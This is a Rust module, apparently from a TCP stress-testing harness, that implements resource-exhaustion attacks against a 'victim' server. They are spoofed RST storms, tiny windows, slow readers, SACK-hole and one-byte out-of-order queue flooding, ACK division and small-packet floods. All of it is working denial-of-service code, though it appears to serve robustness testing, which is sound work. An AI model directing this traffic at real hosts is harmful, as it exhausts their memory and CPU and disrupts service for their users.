//! Peers with connections, which know the sequence numbers.

use super::Attack;
use crate::conns::Conns;
use crate::packet::{ACK, Batch, PSH, RST, Seen, Segment, udp};
use crate::random::Random;
use crate::victim::SERVER;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

const DISCARD: u16 = 9;
const CHARGEN: u16 = 19;

/// MSS 1,460 and SACK permitted, and MSS, SACK permitted and a window scale of 7.
const SACK: &[u8] = &[2, 4, 5, 0xb4, 1, 1, 4, 2];
const SCALED: &[u8] = &[2, 4, 5, 0xb4, 1, 1, 4, 2, 1, 3, 3, 7];

/// RSTs that hit nothing.
pub(super) struct Storm {
    conns: Conns,
    random: Random,
}

impl Storm {
    pub(super) fn new(size: usize) -> Self {
        Self {
            conns: Conns::new(size, DISCARD, SACK, 64_000),
            random: Random::new(5),
        }
    }
}

impl Attack for Storm {
    fn fill(&mut self, now: Instant, room: usize, out: &mut Batch) {
        self.conns.open(now, out);
        for n in out.len()..room {
            let (seq, host) = (self.random.draw(), self.random.draw());
            let mut segment = Segment {
                from: (
                    Ipv4Addr::from(0x0b00_0000 | host >> 8),
                    1 + (host as u16 >> 1),
                ),
                to: (SERVER, 7),
                seq,
                ack: 0,
                flags: RST,
                window: 0,
                options: b"",
                data: b"",
            };
            if let Some(conn) = self.conns.next().filter(|_| n % 2 == 0) {
                // Never exactly the next one: a RST there is right.
                let seq = if seq == conn.seq { seq + 1 } else { seq };
                segment = Segment {
                    seq,
                    ..conn.segment(RST, 0)
                };
            }
            out.push(|out| segment.write(out));
        }
    }

    fn receive(&mut self, _: Instant, seen: &Seen<'_>, out: &mut Batch) {
        self.conns.receive(seen, out);
    }

    fn finish(&mut self, out: &mut Batch) {
        self.conns.finish(out);
    }
}

/// Windows of no use.
pub(super) struct TinyWindows {
    conns: Conns,
    random: Random,
}

impl TinyWindows {
    pub(super) fn new(size: usize) -> Self {
        Self {
            conns: Conns::new(size, CHARGEN, SACK, 1),
            random: Random::new(6),
        }
    }
}

impl Attack for TinyWindows {
    fn fill(&mut self, now: Instant, room: usize, out: &mut Batch) {
        self.conns.open(now, out);
        for _ in out.len()..room {
            let window = self.random.below(4) as u16;
            if let Some(conn) = self.conns.next() {
                out.push(|out| conn.segment(ACK, window).write(out));
            }
        }
    }

    fn receive(&mut self, _: Instant, seen: &Seen<'_>, out: &mut Batch) {
        self.conns.receive(seen, out);
    }

    fn finish(&mut self, out: &mut Batch) {
        self.conns.finish(out);
    }
}

/// Peers that acknowledge as little as keeps them alive.
pub(super) struct SlowReaders {
    conns: Conns,
    due: Option<Instant>,
}

impl SlowReaders {
    pub(super) fn new(size: usize) -> Self {
        Self {
            conns: Conns::new(size, CHARGEN, SCALED, 64_000),
            due: None,
        }
    }
}

impl Attack for SlowReaders {
    fn fill(&mut self, now: Instant, room: usize, out: &mut Batch) {
        self.conns.open(now, out);
        let each = Duration::from_secs(1) / self.conns.list.len() as u32;
        let due = self.due.get_or_insert(now);
        while *due <= now && out.len() < room {
            *due += each;
            if let Some(conn) = self.conns.next() {
                let behind = conn.next.wrapping_sub(conn.acknowledged).min(1460);
                conn.acknowledged = conn.acknowledged.wrapping_add(behind);
                let segment = Segment {
                    ack: conn.acknowledged,
                    ..conn.segment(ACK, 64_000)
                };
                out.push(|out| segment.write(out));
            }
        }
    }

    fn receive(&mut self, _: Instant, seen: &Seen<'_>, out: &mut Batch) {
        self.conns.receive(seen, out);
    }

    fn finish(&mut self, out: &mut Batch) {
        self.conns.finish(out);
    }
}

/// SACK blocks that leave a hole behind each byte.
pub(super) struct SackHoles(Conns);

impl SackHoles {
    /// How often the blocks are sent before the data is acknowledged.
    const ROUNDS: u32 = 4;

    pub(super) fn new(size: usize) -> Self {
        Self(Conns::new(size, CHARGEN, SCALED, 64_000))
    }
}

impl Attack for SackHoles {
    fn fill(&mut self, now: Instant, room: usize, out: &mut Batch) {
        self.0.open(now, out);
        for _ in out.len()..room {
            let Some(conn) = self.0.next() else {
                return;
            };
            // The acknowledgment stays where it was, and the blocks of one byte go forward, several times.
            let reach = conn.next.wrapping_sub(conn.acknowledged).saturating_sub(8);
            if reach == 0 || conn.mark / reach >= Self::ROUNDS {
                conn.mark = 0;
                conn.acknowledged = conn.next;
                out.push(|out| conn.segment(ACK, 64_000).write(out));
                continue;
            }
            let mut options = vec![1, 1, 5, 2 + 8 * 4];
            for block in 0..4 {
                let place = (conn.mark + 2 * block) % reach;
                let left = conn.acknowledged.wrapping_add(place | 1);
                options.extend(left.to_be_bytes());
                options.extend(left.wrapping_add(1).to_be_bytes());
            }
            conn.mark += 8;
            let segment = Segment {
                ack: conn.acknowledged,
                options: &options,
                ..conn.segment(ACK, 64_000)
            };
            out.push(|out| segment.write(out));
        }
    }

    fn receive(&mut self, _: Instant, seen: &Seen<'_>, out: &mut Batch) {
        self.0.receive(seen, out);
    }

    fn finish(&mut self, out: &mut Batch) {
        self.0.finish(out);
    }
}

/// An out-of-order queue full of single bytes.
pub(super) struct OneByte(Conns);

impl OneByte {
    /// How far the bytes go, within the first window of the victim.
    const REACH: u32 = 60_000;

    pub(super) fn new(size: usize) -> Self {
        Self(Conns::new(size, DISCARD, SACK, 64_000))
    }
}

impl Attack for OneByte {
    fn fill(&mut self, now: Instant, room: usize, out: &mut Batch) {
        self.0.open(now, out);
        for _ in out.len()..room {
            let Some(conn) = self.0.next() else {
                return;
            };
            if conn.mark < Self::REACH {
                conn.mark += 2;
                let segment = Segment {
                    seq: conn.seq.wrapping_add(conn.mark - 1),
                    data: b"1",
                    ..conn.segment(ACK | PSH, 64_000)
                };
                out.push(|out| segment.write(out));
                continue;
            }
            // All of it in order, and then again.
            let sent = conn.mark - Self::REACH;
            let segment = Segment {
                data: &[b'1'; 1400],
                seq: conn.seq.wrapping_add(sent),
                ..conn.segment(ACK | PSH, 64_000)
            };
            out.push(|out| segment.write(out));
            conn.mark += 1400;
            if conn.mark >= 2 * Self::REACH {
                conn.seq = conn.una;
                conn.mark = 0;
            }
        }
    }

    fn receive(&mut self, _: Instant, seen: &Seen<'_>, out: &mut Batch) {
        self.0.receive(seen, out);
    }

    fn finish(&mut self, out: &mut Batch) {
        self.0.finish(out);
    }
}

/// An acknowledgment for each byte (RFC 3465, 2.1: to inflate the congestion window).
pub(super) struct AckDivision(Conns);

impl AckDivision {
    pub(super) fn new(size: usize) -> Self {
        Self(Conns::new(size, CHARGEN, SCALED, 64_000))
    }
}

impl Attack for AckDivision {
    fn fill(&mut self, now: Instant, room: usize, out: &mut Batch) {
        self.0.open(now, out);
        let mut idle = 0;
        while out.len() < room && idle < self.0.list.len() {
            let Some(conn) = self.0.next() else {
                return;
            };
            let left = conn.next.wrapping_sub(conn.acknowledged);
            if left == 0 || conn.mark >= left {
                conn.mark = 0;
                conn.acknowledged = conn.next;
                idle += 1;
                continue;
            }
            idle = 0;
            conn.mark += 1;
            let segment = Segment {
                ack: conn.acknowledged.wrapping_add(conn.mark),
                ..conn.segment(ACK, 64_000)
            };
            out.push(|out| segment.write(out));
        }
    }

    fn receive(&mut self, _: Instant, seen: &Seen<'_>, out: &mut Batch) {
        self.0.receive(seen, out);
    }

    fn finish(&mut self, out: &mut Batch) {
        self.0.finish(out);
    }
}

/// The smallest packets that carry something.
pub(super) struct SmallPackets(Conns);

impl SmallPackets {
    pub(super) fn new(size: usize) -> Self {
        Self(Conns::new(size, DISCARD, SACK, 64_000))
    }
}

impl Attack for SmallPackets {
    fn fill(&mut self, now: Instant, room: usize, out: &mut Batch) {
        self.0.open(now, out);
        for n in out.len()..room {
            let conn = self.0.next().filter(|_| n % 2 == 0);
            match conn.filter(|conn| conn.seq.wrapping_sub(conn.una) < 32_000) {
                Some(conn) => {
                    let segment = Segment {
                        data: &[b'6'; 24],
                        ..conn.segment(ACK | PSH, 64_000)
                    };
                    out.push(|out| segment.write(out));
                    conn.seq = conn.seq.wrapping_add(24);
                }
                None => {
                    let from = (Ipv4Addr::new(10, 66, 255, 1), 6_000);
                    out.push(|out| udp(out, from, (SERVER, DISCARD), &[b'6'; 36]));
                }
            }
        }
    }

    fn receive(&mut self, _: Instant, seen: &Seen<'_>, out: &mut Batch) {
        self.0.receive(seen, out);
    }

    fn finish(&mut self, out: &mut Batch) {
        self.0.finish(out);
    }
}
